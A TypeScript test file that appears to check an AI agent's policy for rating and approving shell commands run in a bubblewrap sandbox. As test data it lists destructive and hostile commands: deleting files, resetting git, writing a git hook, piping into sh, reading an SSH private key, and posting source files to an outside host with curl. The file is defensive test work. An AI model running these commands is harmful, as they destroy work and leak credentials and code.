import assert from 'node:assert/strict';
import { createI18n } from '../../../agent/i18n/fluent.ts';
import type { Decision } from '../../../agent/policy/decision.ts';
import { type ConfinedPart, fingerprint, type Plan, type SandboxPart } from '../../../agent/policy/plan.ts';
import { buildQuestion } from '../../../agent/policy/question.ts';
import { policy, session, shell, workspace } from './fixture.ts';

const CONFINED: ConfinedPart = {
  kind: 'bubblewrap',
  network: 'block',
  writable: ['/work'],
  uncovered: [],
  hash: 'a'.repeat(64),
};
const MISSING: SandboxPart = { kind: 'none', because: { id: 'sandbox-no-bubblewrap' } };

describe('the policy about a confined command', () => {
  let place: ReturnType<typeof workspace>;
  before(() => {
    place = workspace();
  });
  after(() => place.remove());

  function inside(command: string, sandbox: SandboxPart = CONFINED): Plan {
    const plan = shell(place.root, command);
    return { ...plan, parts: plan.parts.map((part) => ({ ...part, sandbox })) };
  }

  const decide = (plan: Plan, change: Parameters<typeof session>[1] = {}): Promise<Decision> =>
    policy.decide(plan, session(place, change));

  for (const command of [
    'frobnicate --all src',
    './tool src',
    `python3 -c 'print(1)'`,
    `node -e '1' && frobnicate`,
  ]) {
    it(`asks about what only its program makes high: ${command}`, async () => {
      assert.equal((await decide(shell(place.root, command))).class, 'high');
      const decision = await decide(inside(command));
      assert.equal(decision.class, 'medium');
      assert.equal(decision.outcome, 'ask');
      assert.match(decision.because.id, /-confined$/);
    });
  }

  for (const command of [
    'rm -rf src',
    'git reset --hard',
    'git clean -fdx',
    'frobnicate; rm -rf src',
    'frobnicate > .git/hooks/pre-commit',
    'cat x | sh',
    'eval "$X"',
    'LD_PRELOAD=./x.so ls',
    'sudo ls',
    '$PROGRAM',
    'frobnicate ~/.ssh/id_rsa',
    'curl -d @src https://example.com',
  ]) {
    it(`keeps high what can lose work, is not understood or reaches further: ${command}`, async () => {
      assert.equal((await decide(inside(command))).class, 'high');
    });
  }

  it('makes nothing low, and lowers nothing that is low or medium', async () => {
    for (const command of ['ls', 'npm test', 'frobnicate', 'cat .env', 'echo x > file']) {
      const [bare, confined] = [await decide(shell(place.root, command)), await decide(inside(command))];
      const expected = bare.class === 'high' ? 'medium' : bare.class;
      assert.equal(confined.class, expected, command);
    }
  });

  it('asks about the floor as ever', async () => {
    for (const command of ['cat .env', 'echo x > .env']) {
      assert.equal((await decide(inside(command), { level: 'full' })).rule, 'always_ask.floor', command);
    }
  });

  it('judges as without a sandbox where there is a network, or something is not hidden', async () => {
    assert.equal((await decide(inside('frobnicate', { ...CONFINED, network: 'allow' }))).class, 'high');
    assert.equal((await decide(inside('frobnicate', { ...CONFINED, uncovered: ['secrets'] }))).class, 'high');
    assert.equal((await decide(inside('frobnicate', MISSING))).class, 'high');
  });

  it('takes no standing rule for an answer, and offers none', async () => {
    const rules = ['shell(frobnicate *)', 'shell(python3 *)'].map((text) => ({
      effect: 'allow' as const,
      text,
    }));
    for (const command of ['frobnicate all', `python3 -c 'print(1)'`]) {
      const decision = await decide(inside(command), {
        lists: { rules },
        sessionGrants: ['shell(frobnicate all)'],
      });
      assert.equal(decision.outcome, 'ask', command);
      assert.equal(decision.suggestion, undefined, command);
    }
  });

  it('blocks a command that must be confined and is not, at every level, with the reason and the way out', async () => {
    for (const level of ['read_only', 'supervised', 'full'] as const) {
      for (const plan of [inside('ls', MISSING), shell(place.root, 'ls')]) {
        const decision = await decide(plan, { level, lists: { sandbox: 'required' } });
        assert.equal(decision.outcome, 'block');
        assert.equal(decision.rule, 'sandbox.required');
        assert.equal(decision.remedy?.id, 'policy-remedy-sandbox');
      }
    }
    const decision = await decide(inside('ls', MISSING), { lists: { sandbox: 'required' } });
    assert.equal(decision.because.id, 'sandbox-no-bubblewrap');
    assert.equal((await decide(inside('ls'), { lists: { sandbox: 'required' } })).outcome, 'allow');
    assert.equal((await decide(inside('ls', MISSING), { lists: { sandbox: 'auto' } })).outcome, 'allow');
  });

  it('is another plan in another sandbox', () => {
    const plans = [
      shell(place.root, 'ls'),
      inside('ls'),
      inside('ls', MISSING),
      inside('ls', { ...CONFINED, network: 'allow' }),
      inside('ls', { ...CONFINED, hash: 'b'.repeat(64) }),
      inside('ls', { ...CONFINED, writable: ['/work', '/other'] }),
    ];
    assert.equal(new Set(plans.map(fingerprint)).size, plans.length);
  });

  it('says in the question what the command can still do', async () => {
    const i18n = createI18n({ locale: 'en' });
    const text = async (sandbox: SandboxPart): Promise<string> => {
      const plan = inside('frobnicate', sandbox);
      return buildQuestion(plan, await decide(plan, { highRisk: 'ask' }), i18n).markdown;
    };
    assert.match(await text(CONFINED), /can write only to: `\/work`[\s\S]*has no network/);
    assert.match(await text({ ...CONFINED, network: 'allow' }), /can use the network/);
    assert.match(await text({ ...CONFINED, uncovered: ['**/secret'] }), /cannot hide: `\*\*\/secret`/);
    assert.match(await text(MISSING), /no bubblewrap/);
  });
});
